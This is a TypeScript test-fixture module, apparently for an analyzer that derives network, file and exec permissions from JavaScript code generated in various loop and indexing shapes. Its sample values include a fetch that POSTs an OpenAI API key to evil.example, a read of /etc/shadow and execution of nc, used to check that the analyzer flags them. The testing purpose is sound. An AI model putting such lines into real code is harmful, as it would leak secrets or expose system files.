/** Shapes of JavaScript that use one of many values. */
import { behind, lines, list, quote, type Use } from './many-values.ts';

export const typescriptUses: Readonly<Record<string, Use>> = {
  'an address': {
    code: (x) => `await fetch(${x});`,
    harmless: (index) => `https://g${index}.example/x`,
    telling: 'https://evil.example/x',
    seen: /^egress GET https:\/\/(evil\.example\/x|\*\/\*)$/,
    away: /^egress \S+ https:\/\/\*/,
  },
  'a receiver': {
    code: (x) => `await fetch(${x}, { method: 'POST', body: process.env.OPENAI_API_KEY });`,
    harmless: (index) => `https://g${index}.openai.com/x`,
    telling: 'https://evil.example/x',
    seen: /^flow\/secret-to-(network critical|computed-host medium)$/,
    away: /^flow\/secret-to-(network critical|computed-host)|^egress \S+ https:\/\/\*/,
  },
  'a file': {
    code: (x) => `console.log(fs.readFileSync(${x}, 'utf8'));`,
    harmless: (index) => `/good/a${index}`,
    telling: '/etc/shadow',
    seen: /^mount ro (\/etc\/shadow|\/?\*)$/,
    away: /^mount \S+ \/?\*$/,
  },
  'a program': {
    code: (x) => `execFileSync(${x}, ['-x']);`,
    harmless: (index) => `tool${index}`,
    telling: 'nc',
    seen: /^exec (nc|\*)$/,
    away: /^exec \*$/,
  },
};

const head = `import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
`;

export const typescriptShapes = behind(head, {
  'a loop over a list': (values, use) => `for (const x of [${list(values)}]) ${use('x')}\n`,
  'an index that is counted up': (values, use) =>
    `const xs = [${list(values)}];\nfor (let i = 0; i < xs.length; i++) ${use('xs[i]')}\n`,
  'an index that is counted up by a sum': (values, use) =>
    `const xs = [${list(values)}];\nlet i = 0;\nwhile (i < xs.length) {\n${use('xs[i]')}\ni += 1;\n}\n`,
  'an index that is counted down': (values, use) =>
    `const xs = [${list(values)}];\nfor (let i = xs.length; i-- > 0; ) ${use('xs[i]')}\n`,
  'an index that is counted where it is used': (values, use) =>
    `const xs = [${list(values)}];\nlet i = 0;\nwhile (i < xs.length) { ${use('xs[i++]')} }\n`,
  'at an index': (values, use) =>
    `const xs = [${list(values)}];\nfor (let i = 0; i < xs.length; i++) ${use('xs.at(i)')}\n`,
  'taken from the front, by chance': (values, use) =>
    `const xs = [${list(values)}];\nwhile (xs.length > 0) { ${use('xs.shift()')} }\n`,
  'taken from the end, by chance': (values, use) =>
    `const xs = [${list([...values].reverse())}];\nwhile (xs.length > 0) { ${use('xs.pop()')} }\n`,
  'an index from outside, by chance': (values, use) =>
    `const xs = [${list(values)}];\n${use('xs[Number(process.argv[2])]')}\n`,
  'a function of a list': (values, use) =>
    `for (const x of [${list(values)}].map((one) => one.trim())) ${use('x')}\n`,
  branches: (values, use) =>
    `let x = ${quote(values[0] ?? '')};\n${lines(values, (value, at) => `if (process.argv.length > ${at + 2}) x = ${value};`)}\n${use('x')}\n`,
});
